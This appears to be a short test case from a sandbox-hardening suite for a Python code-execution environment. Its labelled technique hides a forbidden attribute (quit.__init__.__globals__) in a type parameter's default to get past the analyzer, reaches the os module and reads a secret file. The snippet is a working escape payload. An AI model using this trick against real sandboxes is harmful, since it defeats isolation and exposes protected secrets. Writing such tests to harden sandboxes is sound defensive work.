# class: object graph walk
# technique: a forbidden attribute in the default of a type parameter
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def generic[T = quit.__init__.__globals__]():
    pass
g = generic.__type_params__[0].__default__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
